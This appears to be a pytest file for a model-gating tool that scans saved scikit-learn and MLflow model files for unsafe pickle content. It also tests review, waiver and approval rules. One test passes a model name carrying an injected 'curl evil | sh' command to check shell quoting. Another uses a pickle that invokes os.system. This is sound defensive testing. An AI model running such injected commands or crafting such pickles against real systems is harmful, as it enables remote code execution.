"""`files-only`: bytes are judged, behaviour is not, the head says so, and a named reviewer decides."""

import datetime as dt
import shlex

import pytest
from click.testing import CliRunner

from gate.attestations.reviewing import reviewed
from gate.attestations.statement import Voice, scan_statement
from gate.cli.main import main
from gate.detectors.contract import Need
from gate.judging.judge import judge
from gate.policies.packaged import DEFAULT, FILES_ONLY
from gate.policies.read import parse_policy, read_policy
from gate.promotion.promote import _no_bundle
from gate.records.artifact import Artifact, ModelRef, build_manifest
from gate.records.clock import today
from gate.records.errors import PolicyError
from gate.records.evidence import Evidence
from gate.records.facts import ModelFacts
from gate.records.finding import Decision
from gate.records.policy import Reviewers, Waiver
from gate.records.run import Run
from gate.renderers import RENDERERS, comment, summary
from gate.spaces.subject import Subject
from gate.worker.inspecting import flavour_of
from gate.worker.loop import Scanned, Scope, scan
from tests.few.estimators import HOSTILE, OTHERS, calling, forest, linear, save, written

NOW = dt.datetime(2026, 12, 1, 12, tzinfo=dt.UTC)
RULES, DEFAULT_RULES = (read_policy(path, on=today()) for path in (FILES_ONLY, DEFAULT))
VERSION = ModelRef(registry="mlflow", name="credit", version="3")


def seen(folder, policy=RULES, model=VERSION, **changes):
    """Return the evidence of a real look at a folder's bytes, as the inspector and the orchestrator make it."""
    manifest = build_manifest(folder)[0]
    scope = Scope(runs=lambda detector: detector.needs == Need.FILES, absence="", classes=None)
    scanned = scan(Subject(Artifact(model, folder, manifest)), policy, Run(seed=0), scope, Scanned())
    values = {
        "gate_version": "0",
        "model": model,
        "manifest_digest": manifest.digest,
        "policy_digest": policy.digest,
        "isolation": "full",
        "device": "cpu",
        "seed": 0,
        "facts": ModelFacts(flavour=flavour_of(folder, [])),
        "outcomes": scanned.outcomes,
        "unbundled": "the policy judges the bytes alone, and behaviour was not examined",
    }
    return Evidence(**{**values, **changes})


@pytest.fixture(scope="session")
def saved(tmp_path_factory):
    """Return a function that saves a model of scikit-learn in a format, once."""
    made = {}

    def of(name, form):
        if (name, form) not in made:
            model = {"linear": linear, "forest": forest, "calling": calling}[name]()
            made[name, form] = save(model, tmp_path_factory.mktemp("sklearn") / f"{name}-{form}", form)
        return made[name, form]

    return of


def of_bytes(verdict):
    """Return what stands against the bytes."""
    return [one for one in verdict.findings if one.rule != "behaviour"]


@pytest.mark.parametrize(
    ("name", "form"), [("linear", "cloudpickle"), ("linear", "pickle"), ("linear", "skops"), ("forest", "pickle")]
)
def test_a_benign_estimator_passes_and_is_never_approved(saved, name, form):
    """One finding that says so; what its pickle imports is counted and shown, and skops needs no pickle."""
    evidence = seen(saved(name, form))
    verdict = judge(evidence, RULES, on=today())
    (found,) = verdict.findings
    assert (verdict.decision, found.rule, found.kind) == (Decision.FLAGGED, "behaviour", "condition")
    assert found.message.startswith("Behaviour was not examined; the bytes passed. A named reviewer decides")
    assert (verdict.examined, verdict.bytes_passed, verdict.covers) == ("files", True, "candidate")
    counted = {m.metric: m.value for m in evidence.outcomes["unsafe-pickle"].measurements}
    assert (counted.get("module-globals", 0) > 0) == (form != "skops")


def test_a_pickle_that_names_a_function_does_not_pass(saved):
    """`FunctionTransformer(os.system)` is a class of scikit-learn with a function of somebody's choice."""
    verdict = judge(seen(saved("calling", "pickle")), RULES, on=today())
    assert [one.metric for one in of_bytes(verdict)] == ["unsafe-globals"]
    assert "posix.system" in of_bytes(verdict)[0].message
    assert not verdict.bytes_passed
    assert "nobody can approve this version as it is" in verdict.findings[-1].message


@pytest.mark.parametrize("flavour", sorted(OTHERS))
def test_what_other_flavours_write_passes(flavour, tmp_path):
    """By the grammar of each flavour, taken from MLflow's own code."""
    verdict = judge(seen(written(tmp_path, *OTHERS[flavour])), RULES, on=today())
    assert of_bytes(verdict) == [], [one.message for one in verdict.findings]
    assert verdict.bytes_passed


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_what_they_do_not_write_is_named(name, tmp_path):
    """Another class, loader, file, format or module, code, and a flavour that is not known."""
    verdict = judge(seen(written(tmp_path, *HOSTILE[name])), RULES, on=today())
    assert of_bytes(verdict), name
    assert not verdict.bytes_passed
    if name == "an unknown flavour":
        assert "judges the bytes of models of one of pytorch, sklearn, xgboost" in of_bytes(verdict)[0].message


@pytest.mark.parametrize("name", ["linear", "calling"])
def test_another_policy_gives_the_one_reason_and_names_files_only(saved, name):
    """Whatever the bytes hold: that no detector examines the flavour comes first, and there is nothing after it."""
    verdict = judge(seen(saved(name, "pickle"), DEFAULT_RULES), DEFAULT_RULES, on=today())
    (found,) = verdict.findings
    assert "no detector of this gate examines models of the flavour sklearn, only of pytorch" in found.message
    assert "`gate check models:/credit/3 --policy files-only`" in found.message
    assert verdict.examined is None
    assert not verdict.bytes_passed


def test_evidence_for_files_alone_is_none_of_behaviour(saved, tmp_path):
    """Judged by the recommended policy it says what is missing, once, of either flavour."""
    torch_like = written(tmp_path, ("pytorch", {"model_data": "data"}), {"data": "data"}, {"data/model.pt2": b""})
    evidence = seen(torch_like)
    (found,) = judge(evidence, DEFAULT_RULES, on=today()).findings
    assert found.rule == "policy"
    assert "`--policy default`" in judge(evidence, RULES, on=today()).findings[-1].message
    (found,) = judge(seen(saved("linear", "pickle")), DEFAULT_RULES, on=today()).findings
    assert found.rule == "behaviour"


def test_a_converted_bundle_speaks_for_no_candidate(saved):
    """Of a candidate with code `--allow-code` leaves evidence of the bundle's bytes, with any policy's same options."""
    evidence, bad = (seen(saved(*one)) for one in (("linear", "skops"), ("calling", "pickle")))
    scanned_by = RULES.model_copy(update={"examines": "behaviour", "name": "mine"})
    converted = evidence.model_copy(
        update={"policy_digest": scanned_by.digest, "assurance": "B", "original": bad.outcomes,
                "manifest_digest": bad.manifest_digest, "bundle_digest": evidence.manifest_digest}
    )  # fmt: skip
    verdict = judge(converted, RULES, on=today())
    assert [one.rule for one in of_bytes(verdict)] == ["policy"]
    assert "those of the converted bundle, and not the candidate's; scan again" in of_bytes(verdict)[0].message
    assert not verdict.bytes_passed


@pytest.mark.parametrize("rules", [RULES.model_copy(update={"reviewers": Reviewers(names=("ann",))}), DEFAULT_RULES])
def test_a_name_stays_one_word_of_the_command(saved, rules):
    """Whoever registers a model chooses its name, and the command is there to be copied."""
    model = ModelRef(registry="mlflow", name="x; curl evil | sh #", version="1")
    (found,) = judge(seen(saved("linear", "skops"), rules, model=model), rules, on=today()).findings
    command = shlex.split(found.message.split("`")[1], comments=True)
    assert command[2 if rules is DEFAULT_RULES else 3] == "models:/x; curl evil | sh #/1"


def test_no_waiver_turns_it_into_an_approval(saved):
    """Only limits can be waived, and this is a condition."""
    evidence = seen(saved("linear", "pickle"))
    waiver = Waiver(
        detector="behaviour", metric="behaviour", model_digest=evidence.manifest_digest, reason="x", approved_by="x",
        expires=dt.date(2027, 1, 1),
    )  # fmt: skip
    rules = RULES.model_copy(update={"waivers": (waiver,)})
    evidence = evidence.model_copy(update={"policy_digest": rules.digest})
    assert judge(evidence, rules, on=today()).decision is Decision.FLAGGED


def test_a_reviewer_alone_can_approve_the_bytes_as_they_lie(saved):
    """The signed statement says that bytes passed; a scan can never say approved, and there is no bundle to promote."""
    rules = RULES.model_copy(update={"reviewers": Reviewers(names=("ann",))})
    evidence = seen(saved("linear", "pickle"), rules)
    verdict = judge(evidence, rules, on=today())
    assert "`gate review approve models:/credit/3 --reason TEXT`" in verdict.findings[0].message
    signed = scan_statement(evidence, verdict, rules, at=NOW)
    assert (signed.predicate.examined, signed.predicate.assurance) == ("files", None)
    voice = Voice(reviewer="ann", outcome="approved", reason="trained here", at=NOW)
    approved = reviewed(signed, voice, needed=1, days=30, most=999)
    assert approved.predicate.decision is Decision.APPROVED
    assert approved.covered_digests == (evidence.manifest_digest,)
    assert "`gate promote` copies bundles alone" in _no_bundle(approved.predicate)
    with pytest.raises(ValueError, match="approved by reviewers alone"):
        type(signed.predicate).model_validate({**dict(signed.predicate), "decision": Decision.APPROVED})
    with pytest.raises(ValueError, match="about no bundle"):
        type(approved.predicate).model_validate({**dict(approved.predicate), "bundle_digest": f"sha256:{'1' * 64}"})


def test_a_statement_about_bytes_that_did_not_pass_can_never_be_approved(saved):
    """It does not say that they passed, and so is a version that was not loaded."""
    evidence = seen(saved("calling", "pickle"))
    signed = scan_statement(evidence, judge(evidence, RULES, on=today()), RULES, at=NOW)
    assert signed.predicate.examined is None
    with pytest.raises(ValueError, match="only assurance levels A and B"):
        reviewed(signed, Voice(reviewer="a", outcome="approved", reason="x", at=NOW), needed=1, days=1, most=999)


@pytest.mark.parametrize(
    ("more", "message"),
    [
        ("detectors: {neural-cleanse: {}}", "'examines: files' judges bytes alone, and neural-cleanse needs more"),
        ("serve: bundle\ndetectors: {unsafe-pickle: {}}", "writes no bundle and measures no behaviour: leave 'serve'"),
        (
            f"bank: {{path: b.json, sha256: {'a' * 64}}}\ndetectors: {{unsafe-pickle: {{}}}}",
            "measures no behaviour: leave 'bank' out",
        ),
        ("detectors: {artifact-integrity: {options: {flavours: [spacy]}}}", "option 'flavours.0'"),
    ],
)
def test_a_policy_for_files_alone_asks_for_nothing_else(more, message):
    """Named with its line, before anything is pulled."""
    with pytest.raises(PolicyError, match=r"policy\.yml:3") as caught:
        parse_policy(f"version: 1\nexamines: files\n{more}\n", name="policy.yml", on=today())
    assert message in str(caught.value)


@pytest.fixture
def checked(saved, tmp_path):
    """Return the directory and the output of a judged check under `files-only`."""
    (tmp_path / "evidence.json").write_text(seen(saved("linear", "pickle")).pretty_json())
    ended = CliRunner().invoke(main, ["judge", str(tmp_path), "--policy", "files-only"], standalone_mode=False)
    assert ended.return_value == 1, ended.output
    return tmp_path, ended.output


def test_every_surface_says_in_its_head_that_behaviour_was_not_examined(checked):
    """Terminal, report in each format, comment and summary."""
    from gate.records.report import Report

    folder, output = checked
    assert output.startswith("FLAGGED  behaviour not examined")
    report = Report.from_file(folder / "report.json")
    for render in (comment.render, summary.render, *(render for _, render in RENDERERS.values())):
        text = render(report)
        raw = text if isinstance(text, str) else text.decode()
        assert "behaviour was not examined" in raw.lower() or "behaviour not examined" in raw.lower()
    head = (folder / "report.md").read_text().splitlines()[0]
    assert head.startswith("# FLAGGED for human review: behaviour not examined: ")
